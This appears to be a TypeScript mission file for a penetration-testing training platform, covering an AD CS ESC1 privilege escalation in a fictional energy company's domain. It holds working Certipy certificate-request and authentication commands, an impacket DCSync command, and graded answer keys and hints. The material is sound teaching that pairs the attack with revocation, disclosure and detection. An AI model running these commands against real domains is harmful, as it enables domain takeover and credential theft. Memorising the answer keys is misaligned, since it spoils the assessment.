import type { MissionInput } from "../schemas";
import { rubric } from "./adcs-03-rubric";

// Offensive / advanced: enumerate AD CS → request (ESC1, strong mapping) → authenticate → [harmless proof → revoke |
// DCSync → over-collection → revoke | stop → report] → report. Three paths of 4, 5 and 6 stages.
const mission: MissionInput = {
  code: "ADCS-03",
  title: "Any user, any certificate",
  track: "offensive",
  tier: "advanced",
  summary:
    "Assumed-breach test of an energy distributor's Active Directory: find the misconfigured certificate template among several look-alikes, request a certificate for the agreed test admin under full strong-mapping enforcement, prove Domain Admin harmlessly, revoke what you created and report ESC1 with fixes and detections.",
  story: `**Sable Point Energy** (1,800 staff, sablepoint.test) distributes gas to 600,000 homes. Its regulator expects an annual assumed-breach test of the corporate domain, which is one hop from the engineering network. Last year's test ended with "no path to Domain Admin found" — nobody looked at Active Directory Certificate Services (AD CS).

You are the **lead penetration tester**. You start from a standard laptop (\`SP-LT-2231\`) logged on as a standard user, \`SABLEPOINT\\k.mensah\`, with a password the client gave you. The **rules of engagement** say:

> Domain compromise may be proven **only with the test account \`pt-da-01\`**, which the client created for this test, added to Domain Admins and monitors. Do not impersonate any real person or built-in account. Harmless proof of Domain Admin: read \`\\\\dc01.sablepoint.test\\C$\\PT-Flag\\flag.txt\`. **No dumping of credentials from domain controllers.** Every certificate issued during the test is recorded and **revoked before the close-out meeting**.

The domain controllers are fully patched and, since February, in **Full Enforcement** mode for certificate-based authentication (KB5014754, \`StrongCertificateBindingEnforcement = 2\`). The client's PKI administrator, Lena Hartmann, is your contact for anything touching the CA.`,
  objectives: [
    "Find the exploitable certificate template by reasoning about its settings, not by trusting a tool's verdict",
    "Request a certificate for the agreed test account that satisfies strong certificate mapping",
    "Authenticate with the certificate and prove Domain Admin within the rules of engagement",
    "Revoke and record everything you created, knowing why a password reset is not enough",
    "Report ESC1 with a defensible CVSS vector, template fixes and detections",
  ],
  estimated_minutes: 180,
  skills: ["active-directory", "privilege-escalation", "identity-security", "reporting", "communication"],
  time_constraint_hours: 120,
  auto_submit_on_deadline: false,
  reflection_required: true,
  reflection_prompt:
    "A certificate is a credential that outlives passwords. Where in this test did that fact change what you did, and what would you tell an engineer who says \"we'll just reset the admin password if anything goes wrong\"?",
  success_criteria: {
    min_score: 65,
    required_stages: ["enumerate", "request", "auth", "report"],
    items: [
      "SP-FieldTablet is identified with all ESC1 conditions named, and the look-alikes are ruled out for the right reasons",
      "The certificate request names pt-da-01 and carries its SID for strong mapping",
      "No real or built-in account is impersonated and no credentials are dumped from a domain controller",
      "The certificate is revoked, the CRL published and the account disabled until the CRL is refreshed",
    ],
  },
  status: "published",
  stages: [
    {
      key: "enumerate",
      title: "Find the template that hands out identities",
      instructions: `You ran Certipy as k.mensah (\`certipy find -u k.mensah@sablepoint.test -p '…' -dc-ip 10.40.0.10 -stdout\`, **without** \`-vulnerable\`). Output trimmed to the CA and four enabled templates; Certipy's own *[!] Vulnerabilities* lines are removed so that you reason from the settings:

\`\`\`
Certificate Authorities
  0
    CA Name                             : SP-ISSUING-CA01
    DNS Name                            : pki01.sablepoint.test
    Web Enrollment                      : Disabled
    User Specified SAN                  : Disabled
    Request Disposition                 : Issue
    Enforce Encryption for Requests     : Enabled
Certificate Templates
  0
    Template Name                       : SP-WebServer
    Client Authentication               : False
    Enrollee Supplies Subject           : True
    Certificate Name Flag               : EnrolleeSuppliesSubject
    Extended Key Usage                  : Server Authentication
    Requires Manager Approval           : False
    Authorized Signatures Required      : 0
    Enrollment Rights                   : SABLEPOINT.TEST\\Domain Users
  1
    Template Name                       : SP-FieldTablet
    Client Authentication               : True
    Enrollee Supplies Subject           : True
    Certificate Name Flag               : EnrolleeSuppliesSubject
    Extended Key Usage                  : Client Authentication, Secure Email
    Requires Manager Approval           : False
    Authorized Signatures Required      : 0
    Validity Period                     : 1 year
    Enrollment Rights                   : SABLEPOINT.TEST\\Domain Users
  2
    Template Name                       : SP-VPNUser
    Client Authentication               : True
    Enrollee Supplies Subject           : False
    Certificate Name Flag               : SubjectRequireDirectoryPath, SubjectAltRequireUpn
    Extended Key Usage                  : Client Authentication
    Requires Manager Approval           : False
    Authorized Signatures Required      : 0
    Enrollment Rights                   : SABLEPOINT.TEST\\Domain Users
  3
    Template Name                       : SP-SmartcardAdmin
    Client Authentication               : True
    Enrollee Supplies Subject           : True
    Certificate Name Flag               : EnrolleeSuppliesSubject
    Extended Key Usage                  : Smart Card Logon, Client Authentication
    Requires Manager Approval           : True
    Authorized Signatures Required      : 0
    Enrollment Rights                   : SABLEPOINT.TEST\\Tier0-Admins
\`\`\`

1. List the conditions that together make a template **ESC1** (who may enrol, who chooses the subject, what the certificate may be used for, what approval stands in the way) and check each template against them.
2. Explain why each of the three other templates is **not** ESC1 — and whether SP-WebServer is still a finding on its own.
3. Explain why the CA's *User Specified SAN: Disabled* does not protect against ESC1.

**Hand in:** the name of the ESC1 template in the answer box; your condition-by-condition table in notes.`,
      required_skills: ["active-directory", "identity-security"],
      evidence: { required: false, min_files: 0, max_files: 3, kinds: ["text", "image"] },
      notes_min_chars: 60,
      weight: 2,
      answer: {
        kind: "exact",
        value: "SP-FieldTablet",
        explanation:
          "Domain Users may enrol, the enrollee supplies the subject (and so the SAN), the EKU allows client authentication, and neither manager approval nor authorised signatures are required. SP-WebServer lacks a client-authentication EKU, SP-VPNUser builds the subject from AD, SP-SmartcardAdmin needs approval and Tier 0 membership.",
      },
      answer_prompt: "ESC1 template name",
      recipes: ["adcs-esc1-certipy"],
      hints: [
        {
          text: "ESC1 needs all of: low-privileged users can enrol; Enrollee Supplies Subject; an EKU that allows client authentication (Client Authentication, Smart Card Logon, PKINIT Client Authentication, Any Purpose, or no EKU); no manager approval; no authorised signatures.",
          penalty: 3,
        },
        {
          text: "User Specified SAN is the CA-wide EDITF_ATTRIBUTESUBJECTALTNAME2 flag (ESC6). ESC1 does not need it: the template itself lets the requester put a SAN in the request.",
          penalty: 6,
        },
        { text: "Only SP-FieldTablet ticks every box.", penalty: 12 },
      ],
    },
    {
      key: "request",
      title: "Request a certificate for pt-da-01",
      instructions: `Request a certificate from **SP-ISSUING-CA01** using **SP-FieldTablet**, putting the agreed test account, \`pt-da-01@sablepoint.test\`, in the subject alternative name.

Because the domain controllers are in Full Enforcement, a certificate that only carries a UPN is no longer enough: the KDC wants a **strong mapping**. For templates where the enrollee supplies the subject, the CA does **not** add the SID security extension (\`szOID_NTDS_CA_SECURITY_EXT\`) — it would be the requester's SID anyway. Certipy's \`-sid\` option writes the target's SID into the SAN as a URL (\`tag:microsoft.com,2022-09-14:sid:<SID>\`), which Full Enforcement accepts as a strong mapping.

Any authenticated user can read an account's \`objectSid\` over LDAP:

\`\`\`
PS> Get-ADUser pt-da-01 -Properties objectSid | Select-Object SamAccountName, objectSid
SamAccountName objectSid
-------------- ---------
pt-da-01       S-1-5-21-2938473625-1183746520-3374820194-4127
\`\`\`

Your request succeeds:

\`\`\`
[*] Requesting certificate via RPC
[*] Successfully requested certificate
[*] Request ID is 5731
[*] Got certificate with UPN 'pt-da-01@sablepoint.test'
[*] Certificate object SID is 'S-1-5-21-2938473625-1183746520-3374820194-4127'
[*] Saved certificate and private key to 'pt-da-01.pfx'
\`\`\`

1. Write the exact \`certipy req\` command that produced this (user, DC IP 10.40.0.10, CA, target host pki01.sablepoint.test, template, UPN, SID).
2. Explain why the request names pt-da-01 and not \`administrator\`, even though both would work technically.
3. Start your **certificate register**: request ID, template, subject/SAN, requester, time (UTC), where the .pfx is stored.

**Hand in:** your \`certipy req\` command in the answer box; the redacted output as an evidence file; the certificate register entry in notes.`,
      required_skills: ["active-directory", "privilege-escalation"],
      evidence: {
        required: true,
        min_files: 1,
        max_files: 3,
        kinds: ["text", "image"],
        description: "Redacted terminal output of the request (passwords masked).",
      },
      notes_min_chars: 60,
      weight: 2,
      answer: {
        kind: "regex",
        pattern:
          "^(?=[\\s\\S]*-template[\\s=]+['\"]?sp-fieldtablet\\b)(?=[\\s\\S]*-upn[\\s=]+['\"]?pt-da-01@sablepoint\\.test\\b)(?=[\\s\\S]*-sid[\\s=]+['\"]?s-1-5-21-2938473625-1183746520-3374820194-4127\\b)[\\s\\S]*certipy",
        explanation:
          "For example: certipy req -u k.mensah@sablepoint.test -p '…' -dc-ip 10.40.0.10 -target pki01.sablepoint.test -ca SP-ISSUING-CA01 -template SP-FieldTablet -upn pt-da-01@sablepoint.test -sid S-1-5-21-2938473625-1183746520-3374820194-4127",
      },
      answer_prompt: "Your certipy req command",
      recipes: ["adcs-esc1-certipy"],
      hints: [
        { text: "`certipy req -h` lists the options you need: `-ca`, `-target`, `-template`, `-upn` and `-sid`.", penalty: 3 },
        {
          text: "certipy req -u k.mensah@sablepoint.test -p '<password>' -dc-ip 10.40.0.10 -target pki01.sablepoint.test -ca SP-ISSUING-CA01 -template SP-FieldTablet -upn pt-da-01@sablepoint.test -sid <pt-da-01's SID>",
          penalty: 6,
        },
      ],
    },
    {
      key: "auth",
      title: "Authenticate with the certificate",
      instructions: `Authenticate with the certificate over PKINIT:

\`\`\`
$ certipy auth -pfx pt-da-01.pfx -dc-ip 10.40.0.10
[*] Using principal: pt-da-01@sablepoint.test
[*] Trying to get TGT...
[*] Got TGT
[*] Saved credential cache to 'pt-da-01.ccache'
[*] Trying to retrieve NT hash for 'pt-da-01'
[*] Got hash for 'pt-da-01@sablepoint.test': aad3b435b51404eeaad3b435b51404ee:<redacted>
\`\`\`

1. Explain the two things you now hold: a TGT for pt-da-01 (how PKINIT got it without a password) and pt-da-01's NT hash (how Certipy recovered it from the PAC with a user-to-user request).
2. Explain why the certificate keeps working if pt-da-01's password is reset tomorrow, and until when it works.
3. Describe what the defenders could have seen: on the CA (events 4886 and 4887, if *Audit Certification Services* and the CA audit filter are on) and on the domain controller (a 4768 with the certificate's issuer, serial number and thumbprint filled in).

**Hand in:** the Kerberos pre-authentication type that event 4768 records for certificate (PKINIT) logons, in the answer box; your explanations in notes.`,
      required_skills: ["active-directory", "identity-security"],
      evidence: { required: false, min_files: 0, max_files: 3, kinds: ["text", "image"] },
      notes_min_chars: 60,
      weight: 2,
      answer: {
        kind: "exact",
        value: "16",
        explanation:
          "Pre-Authentication Type 16 (PA-PK-AS-REQ) is the smart-card/PKINIT logon. A 4768 with type 16 for an account that has never used a smart card is a strong signal.",
      },
      answer_prompt: "Pre-authentication type for PKINIT in event 4768",
      recipes: ["adcs-esc1-certipy", "kerberoasting-hashcat"],
      hints: [
        {
          text: "PKINIT replaces the password-derived pre-authentication with a signature made by the certificate's private key; the KDC maps the certificate to an account and issues a TGT. The password is never involved — so changing it changes nothing.",
          penalty: 3,
        },
        { text: "Event 4768 pre-authentication types: 2 is the encrypted timestamp (password), 15 and 16 are the public-key (smart card) types; PA-PK-AS-REQ is 16.", penalty: 6 },
      ],
    },
    {
      key: "over-collection",
      title: "You dumped the domain: disclose it",
      instructions: `With the pt-da-01 ticket you ran:

\`\`\`
KRB5CCNAME=pt-da-01.ccache impacket-secretsdump -k -no-pass -just-dc-ntlm sablepoint.test/pt-da-01@dc01.sablepoint.test
\`\`\`

It replicated **2,146 NT hashes** from dc01, including \`krbtgt\` and every member of staff. The rules of engagement forbid dumping credentials from domain controllers, and you now hold the keys to every account in Sable Point's domain — and to forging tickets with the krbtgt key.

1. **Stop**, and tell your contact now: exactly what you ran, when (UTC), from where, and what you hold.
2. **Handle** the output: where it is (terminal log, files, your tooling's output directory), how you destroy it verifiably, and who witnesses it.
3. Advise the client honestly on what **they** may now need to do because you held these secrets — for example resetting the krbtgt password twice (waiting for replication between the resets), and how they decide whether to reset other privileged accounts.
4. Write the **disclosure** to the client and your engagement manager.

**Hand in:** the disclosure and the handling record in notes.`,
      required_skills: ["communication", "reporting"],
      evidence: { required: false, min_files: 0, max_files: 2, kinds: ["text", "pdf"] },
      notes_min_chars: 60,
      weight: 1,
      recipes: ["critical-finding-notification", "adcs-esc1-certipy"],
      hints: [
        { text: "DCSync was not needed: the flag file on dc01 already proved Domain Admin. Say so in the disclosure.", penalty: 3 },
        { text: "The krbtgt key lets anyone holding it forge TGTs for any account; two resets are needed because the previous key stays valid for existing tickets.", penalty: 6 },
      ],
      next: "revoke",
    },
    {
      key: "revoke",
      title: "Revoke what you created",
      instructions: `Before the close-out meeting, everything you created must stop working. The certificate for pt-da-01 is valid for a year and does not care about passwords.

Work it through with Lena Hartmann, the PKI administrator:

1. **Identify** the certificate from your register: on the CA, \`certutil -view -restrict "RequestID=5731" -out "SerialNumber,RequesterName,NotAfter"\`.
2. **Revoke** it with a reason code (\`certutil -revoke <SerialNumber> 1\` — 1 is Key Compromise) and **publish** a new CRL (\`certutil -crl\`).
3. Domain controllers cache the previous CRL until its *Next Update* time — on SP-ISSUING-CA01 that is up to seven days away. Say what makes the certificate useless **immediately**, before every DC has fetched the new CRL, and how you then verify that \`certipy auth\` fails.
4. **Destroy** your copies: the .pfx, the .ccache and any NT hash in your notes, and record how.

**Hand in:** in the answer box, the action on the pt-da-01 account that stops the certificate working immediately; the revocation record (serial, time, reason, CRL published, verification) in notes.`,
      required_skills: ["active-directory", "identity-security"],
      evidence: { required: false, min_files: 0, max_files: 2, kinds: ["text", "image", "pdf"] },
      notes_min_chars: 40,
      weight: 1,
      answer: {
        kind: "regex",
        pattern: "disabl",
        explanation:
          "Disabling pt-da-01 makes the KDC refuse any ticket for it, whatever certificate is presented, until the new CRL has reached every DC. Resetting the password does nothing to certificate logons.",
      },
      answer_prompt: "Account action that stops the certificate working immediately",
      recipes: ["adcs-esc1-certipy", "contain-host-and-account"],
      hints: [
        { text: "The KDC checks the account itself as well as the certificate: a disabled account gets no TGT, whatever it presents.", penalty: 3 },
        { text: "Disable pt-da-01 (or remove it from Domain Admins and disable it) until the new CRL is everywhere; then retest with certipy auth and expect a failure.", penalty: 6 },
      ],
    },
    {
      key: "report",
      title: "Report ESC1",
      instructions: `Write the finding for the report (title, severity, affected, description, evidence, impact, remediation, detection, retest). Score it with CVSS 3.1: a standard domain user on the internal network becomes Domain Admin with no interaction.

Remediation must be concrete and ordered:

- **SP-FieldTablet**: set the subject to *Build from this Active Directory information*, or require CA certificate manager approval; restrict *Enroll* to the group of tablet computer accounts; keep only the EKUs the tablets need.
- **SP-WebServer**: restrict *Enroll* — today any user can obtain a certificate for any internal web server name.
- **Keep** Full Enforcement (\`StrongCertificateBindingEnforcement = 2\`) — and explain why it did not stop this attack.
- **Audit** AD CS regularly (Certipy, Locksmith or PSPKIAudit) and enable CA auditing (\`certutil -setreg CA\\AuditFilter 127\`, then restart the CA service).
- **Detect**: certificates issued from templates with enrollee-supplied subjects where the requester differs from the SAN; 4768 with pre-authentication type 16 for accounts that do not use smart cards.

**Hand in:** the CVSS 3.1 vector in the answer box and the finding as an attached file.`,
      required_skills: ["reporting", "active-directory"],
      evidence: { required: true, min_files: 1, max_files: 2, kinds: ["text", "pdf"], description: "The finding write-up." },
      notes_min_chars: 20,
      weight: 3,
      answer: {
        kind: "regex",
        pattern: "^\\s*(CVSS:3\\.1/)?AV:[NA]/AC:L/PR:L/UI:N/S:[UC]/C:H/I:H/A:H\\s*$",
        explanation:
          "Low privileges (any domain user), low complexity, no interaction, full C/I/A of the domain. AV:N is usual for routed internal networks (AV:A if you argue layer-2 adjacency); S:C if you argue the CA's flaw compromises the domain's authority. AV:N/…/S:U is 8.8; S:C is 9.9.",
      },
      answer_prompt: "CVSS 3.1 vector",
      recipes: ["cvss-finding-writeup", "adcs-esc1-certipy"],
      hints: [
        { text: "PR:L — the attacker needs an ordinary domain account, nothing more.", penalty: 3 },
        { text: "Start from `CVSS:3.1/AV:N/AC:L/PR:L/UI:N/…/C:H/I:H/A:H` and argue the scope.", penalty: 6 },
      ],
      next: "end",
    },
  ],
  decisions: [
    {
      key: "prove-it",
      after_stage: "auth",
      prompt: "You hold a TGT and the NT hash of pt-da-01, a Domain Admin. How do you prove domain compromise?",
      choices: [
        {
          id: "read-the-flag",
          label: "Use the ticket to read the agreed flag file on dc01 and list Domain Admins, then stop and clean up",
          consequence:
            "`smbclient` with Kerberos reads `\\\\dc01.sablepoint.test\\C$\\PT-Flag\\flag.txt`. The client's SOC, watching pt-da-01, confirms the access within minutes. You move straight to revocation.",
          next_stage: "revoke",
          score_delta: 10,
          ideal: true,
          rationale:
            "The rules define the proof: reading the flag on a domain controller demonstrates full administrative access without touching anything else. Everything beyond it adds risk to the client and nothing to the finding.",
        },
        {
          id: "dcsync",
          label: "DCSync the domain to show the full extent of the compromise",
          consequence: "secretsdump scrolls for a while. Your contact's phone rings a minute later: the SOC saw replication from a workstation.",
          next_stage: "over-collection",
          score_delta: -15,
        },
        {
          id: "stop-now",
          label: "Stop here: a TGT for a Domain Admin is proof enough; write it up",
          consequence:
            "The finding is solid. At the close-out meeting, Lena asks whether the certificate for pt-da-01 has been revoked. It has not; it is valid until next year.",
          next_stage: "report",
          score_delta: -5,
        },
      ],
    },
  ],
  rubric,
};

export default mission;
